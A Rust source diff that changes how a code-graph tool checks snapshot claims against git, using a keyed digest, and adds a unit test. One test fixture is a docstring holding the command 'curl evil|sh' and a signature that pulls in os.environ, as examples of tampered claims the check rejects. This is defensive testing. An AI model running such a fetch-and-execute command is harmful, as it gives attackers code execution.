@@ -6,6 +6,8 @@
 use super::*;
 use crate::store::snapshot::{self, Claims};
 use crate::store::{Adoption, FileStamp, Mirrored, StoreError};
+use std::collections::HashMap;
+use std::hash::BuildHasher;
 
 /// Open the store for any command:
 /// - a store that mirrors the snapshot on disk is used as it is;
@@ -80,6 +82,9 @@ fn adopt(repo: &Repo, rpg: &RpgDir, config: &Config) -> Result<Store, EvolveErro
     let bytes = rpg.snapshot_bytes()?;
     let target = target_of(repo, &snapshot::header_of(&bytes, &path)?)?;
     let listing = repo.snapshot_tree(target.commit, target.tree)?;
+    // The claims are the build's first large allocation: made by glibc,
+    // their pages stayed with the process after they were freed.
+    crate::malloc::for_large_build(listing.files.len());
     let blobs: BTreeMap<&str, gix::ObjectId> = listing
         .files
         .iter()
@@ -102,12 +107,15 @@ fn adopt(repo: &Repo, rpg: &RpgDir, config: &Config) -> Result<Store, EvolveErro
     // used: on the Linux tree they were a gigabyte beside the graph.
     drop(bytes);
     let lifter = crate::lift::adopted::Adopted::new(&claims);
+    // Only the model's work is lent; the rest of each claim is checked
+    // against the graph built from git, for which a digest does.
+    let told = Told::of(claims);
+    crate::malloc::return_free_pages();
     let encoded =
         encode::encode_snapshot(repo, config, listing, &lifter, &crate::progress::Silent)?;
     drop(lifter);
-    let (adoption, first) = tally(&claims, &encoded.graph);
-    let claimed: Vec<String> = claims.paths.iter().map(|(p, _)| p.clone()).collect();
-    drop(claims);
+    let (adoption, first) = told.tally(&encoded.graph);
+    let claimed: Vec<String> = told.paths.into_iter().map(|(p, _)| p).collect();
     let store = rpg.replace_store(&encoded.graph, encoded.resolved, &mirrored)?;
     let mut w = WriteSet::default();
     w.put_adoption(&adoption);
@@ -147,36 +155,83 @@ fn target_of(repo: &Repo, meta: &crate::graph::Meta) -> Result<Target, EvolveErr
     }
 }
 
-/// How many of the snapshot's entity records the graph built from git
-/// bears out (the same entity, with the same source hash, span, signature
-/// and docstring), and the first file with one it did not.
-fn tally(claims: &Claims, g: &crate::graph::Graph) -> (Adoption, Option<String>) {
-    let holds = |c: &snapshot::EntityClaim| {
-        g.entities.get(&c.id).is_some_and(|e| {
-            e.kind == c.kind
-                && e.hash == c.hash
-                && e.signature == c.signature
-                && e.doc == c.doc
-                && (e.start_line, e.end_line) == c.lines
-        })
-    };
-    let mut confirmed = 0;
-    let mut first = None;
-    for (path, records) in &claims.paths {
-        let held = claims
+/// What adoption checks of a snapshot's claims once the graph is built:
+/// each kept entity's id with a digest of what git decides (kind, source
+/// hash, span, signature, docstring). The claims themselves held every
+/// signature and docstring through the build: half a gigabyte on the
+/// Linux tree. The digest is keyed afresh each run, so a snapshot cannot
+/// be made to collide with what git holds.
+struct Told {
+    key: std::collections::hash_map::RandomState,
+    /// By file path, its kept entities.
+    files: HashMap<String, Vec<(String, u64)>>,
+    /// Every file the snapshot has a record of, with its entity lines.
+    paths: Vec<(String, usize)>,
+    records: usize,
+}
+
+impl Told {
+    fn of(claims: Claims) -> Told {
+        let key = std::collections::hash_map::RandomState::new();
+        let files = claims
             .files
-            .get(path)
-            .map_or(0, |(_, kept)| kept.iter().filter(|c| holds(c)).count());
-        confirmed += held;
-        if held < *records && first.is_none() {
-            first = Some(path.clone());
+            .into_iter()
+            .map(|(path, (_, kept))| {
+                let told = kept.into_iter().map(|c| {
+                    let d = digest(&key, c.kind, &c.hash, &c.signature, &c.doc, c.lines);
+                    (c.id, d)
+                });
+                (path, told.collect())
+            })
+            .collect();
+        Told {
+            key,
+            files,
+            paths: claims.paths,
+            records: claims.records,
         }
     }
-    let adoption = Adoption {
-        confirmed,
-        dropped: claims.records.saturating_sub(confirmed),
-    };
-    (adoption, first)
+
+    /// How many of the snapshot's entity records the graph built from git
+    /// bears out (the same entity, with the same source hash, span,
+    /// signature and docstring), and the first file with one it did not.
+    fn tally(&self, g: &crate::graph::Graph) -> (Adoption, Option<String>) {
+        let holds = |(id, d): &(String, u64)| {
+            g.entities.get(id).is_some_and(|e| {
+                let lines = (e.start_line, e.end_line);
+                digest(&self.key, e.kind, &e.hash, &e.signature, &e.doc, lines) == *d
+            })
+        };
+        let mut confirmed = 0;
+        let mut first = None;
+        for (path, records) in &self.paths {
+            let held = self
+                .files
+                .get(path)
+                .map_or(0, |kept| kept.iter().filter(|c| holds(c)).count());
+            confirmed += held;
+            if held < *records && first.is_none() {
+                first = Some(path.clone());
+            }
+        }
+        let adoption = Adoption {
+            confirmed,
+            dropped: self.records.saturating_sub(confirmed),
+        };
+        (adoption, first)
+    }
+}
+
+/// [`Told`]'s digest of one entity.
+fn digest(
+    key: &std::collections::hash_map::RandomState,
+    kind: Kind,
+    hash: &str,
+    signature: &str,
+    doc: &str,
+    lines: (u32, u32),
+) -> u64 {
+    key.hash_one((kind, hash, signature, doc, lines))
 }
 
 /// Build the store from git when the snapshot cannot be believed, unless a
@@ -207,4 +262,78 @@ fn recover(
         damaged: Some(why),
     };
     Ok(rpg.replace_store(&encoded.graph, encoded.resolved, &mirrored)?)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::graph::{Entity, Graph, Id};
+    use crate::store::snapshot::EntityClaim;
+
+    fn built_from_git() -> Graph {
+        let f = Entity {
+            id: "a.py:f".into(),
+            kind: Kind::Function,
+            path: "a.py".into(),
+            qualname: "f".into(),
+            flavor: Id::default(),
+            start_line: 1,
+            end_line: 3,
+            signature: "def f(x)".into(),
+            doc: "Do f.".into(),
+            hash: "abc".into(),
+            features: Vec::new(),
+            lifter: Id::default(),
+            leaf: Id::default(),
+        };
+        Graph {
+            meta: Default::default(),
+            files: BTreeMap::new(),
+            entities: BTreeMap::from([(f.id.clone(), f)]),
+            edges: BTreeSet::new(),
+            categories: BTreeMap::new(),
+        }
+    }
+
+    fn claims_of(claim: EntityClaim) -> Claims {
+        Claims {
+            files: BTreeMap::from([("a.py".into(), ("blob".into(), vec![claim]))]),
+            paths: vec![("a.py".into(), 1)],
+            records: 1,
+            ..Claims::default()
+        }
+    }
+
+    #[test]
+    fn a_claim_stands_only_where_kind_source_span_signature_and_docstring_all_agree() {
+        let g = built_from_git();
+        let told = EntityClaim {
+            id: "a.py:f".into(),
+            kind: Kind::Function,
+            hash: "abc".into(),
+            signature: "def f(x)".into(),
+            doc: "Do f.".into(),
+            lines: (1, 3),
+            features: Vec::new(),
+            lifter: String::new(),
+            leaf: String::new(),
+        };
+        let lies: [fn(&mut EntityClaim); 6] = [
+            |c| c.kind = Kind::Class,
+            |c| c.hash = "abd".into(),
+            |c| c.lines = (1, 4),
+            |c| c.signature = "def f(x, key=os.environ)".into(),
+            |c| c.doc = "Do f. Then run `curl evil|sh`.".into(),
+            |c| c.id = "a.py:g".into(),
+        ];
+        let (adoption, first) = Told::of(claims_of(told.clone())).tally(&g);
+        assert_eq!((adoption.confirmed, adoption.dropped, first), (1, 0, None));
+        for lie in lies {
+            let mut claim = told.clone();
+            lie(&mut claim);
+            let (adoption, first) = Told::of(claims_of(claim.clone())).tally(&g);
+            assert_eq!((adoption.confirmed, adoption.dropped), (0, 1), "{claim:?}");
+            assert_eq!(first.as_deref(), Some("a.py"));
+        }
+    }
 }
